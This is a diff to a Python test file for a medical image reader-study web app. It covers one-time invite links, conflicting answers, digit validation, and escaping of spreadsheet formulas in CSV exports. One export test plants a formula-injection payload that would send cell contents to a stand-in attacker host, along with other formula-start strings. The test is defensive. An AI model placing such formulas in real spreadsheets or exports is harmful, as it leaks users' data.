@@ -27,12 +27,13 @@ def test_invite_is_one_time_and_sets_safe_cookie(study, make_client):
     assert resp.status_code == 303 and resp.headers["location"] == "/read"
     cookie = resp.headers["set-cookie"].lower()
     assert "httponly" in cookie and "samesite=lax" in cookie
-    # the link is spent: neither this browser nor another can use it again
+    # the link is spent: another browser cannot use it again
     other = make_client()
     assert other.get(invite_path(link)).status_code == 404
-    assert client.get(invite_path(link)).status_code == 404
-    # but this browser continues without it
+    # this browser continues without it, and reopening the link there just continues too
     assert "Image 1 of 13" in client.get("/read").text
+    again = client.get(invite_path(link), follow_redirects=False)
+    assert again.status_code == 303 and again.headers["location"] == "/read"
 
 
 def test_unknown_invite_and_anonymous_reader_pages(study, make_client):
@@ -109,12 +110,16 @@ def test_answers_are_idempotent_and_progress_advances(study, make_client):
     page = sign_in_reader(client, study.invites["reader-1"])
     first = _answer(client, page)
     assert "Image 2 of 13" in first.text
-    # double submit of the same form, and a second tab holding the old page
-    again = _answer(client, page, realism="1")
+    # double submit of the same form: quietly continues
+    again = _answer(client, page)
     assert again.status_code == 200 and "Image 2 of 13" in again.text
+    # a second tab holding the old page sends a different answer: told that the first one was kept
     tab2 = make_client()
     tab2.cookies.update(client.cookies)
-    assert _answer(tab2, page, realism="2").status_code == 200
+    conflict = _answer(tab2, page, realism="2")
+    assert conflict.status_code == 409
+    assert "first answer was kept" in conflict.text and 'href="/read"' in conflict.text
+    assert _answer(client, page, comment="a second thought").status_code == 409
     assert _count_answers(study.db_url) == 1
     with session_scope(study.db_url) as s:
         stored = s.scalar(select(Answer))
@@ -131,6 +136,55 @@ def test_incomplete_answer_is_rejected(study, make_client):
     assert _answer(client, page, finding="").status_code == 400
     assert _count_answers(study.db_url) == 0
     assert _answer(client, page, comment="").status_code == 200  # comment is optional
+
+
+def test_numbers_in_answers_must_be_ascii_digits(study, make_client):
+    client = make_client()
+    page = sign_in_reader(client, study.invites["reader-1"])
+    for value in ("\u00b2", "\u0663", "\uff13", "9" * 5000, "+3", "3.0"):  # superscript 2, Arabic-Indic 3, full-width 3
+        for field in ("realism", "confidence"):
+            resp = _answer(client, page, **{field: value})
+            assert resp.status_code == 400 and "whole number" in resp.text, (field, value)
+    assert _count_answers(study.db_url) == 0
+    assert _answer(client, page, elapsed_ms="\u00b2\u00b2").status_code == 200  # optional timing: dropped, not a crash
+    with session_scope(study.db_url) as s:
+        assert s.scalar(select(Answer.client_ms)) is None
+
+
+def test_exports_neutralise_spreadsheet_formulas(study, make_client, tmp_path):
+    import csv
+    import io
+
+    from synthcxr.study.service import add_reader, analyze_study, export_ratings, simulate_answers
+
+    formula = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
+    client = make_client()
+    page = sign_in_reader(client, study.invites["reader-1"])
+    assert _answer(client, page, comment=formula).status_code == 200
+    for name in ("@SUM(1+1)", "+1+1", "-2+3"):
+        add_reader(study.db_url, study.name, name)
+    simulate_answers(study.db_url, study.name)
+    rows = list(csv.DictReader(export_ratings(study.db_url, study.name, tmp_path / "r.csv").open(newline="")))
+    assert "'" + formula in [r["comment"] for r in rows]
+    assert {r["reader"] for r in rows} >= {"'@SUM(1+1)", "'+1+1", "'-2+3"}
+    admin = make_client()
+    sign_in_admin(admin, study.admin_token)
+    served = list(csv.DictReader(io.StringIO(admin.get(f"/admin/study/{study.name}/export.csv").text)))
+    analyze_study(study.db_url, study.name, tmp_path / "an", n_boot=50)
+    readers_table = list(csv.DictReader((tmp_path / "an" / "readers.csv").open(newline="")))
+    for table in (rows, served, readers_table):
+        for row in table:
+            for value in row.values():
+                if value and value[0] in "=+-@\t\r":
+                    float(value)  # only numbers (e.g. a negative kappa) may start like a formula
+
+
+def test_every_formula_start_is_neutralised():
+    from synthcxr.study.csvsafe import safe_cell
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert safe_cell(start + "cmd") == "'" + start + "cmd"
+    assert safe_cell("reader-1") == "reader-1" and safe_cell(-0.25) == -0.25 and safe_cell(None) == ""
 
 
 def test_answers_and_sessions_survive_a_restart(study, make_client):
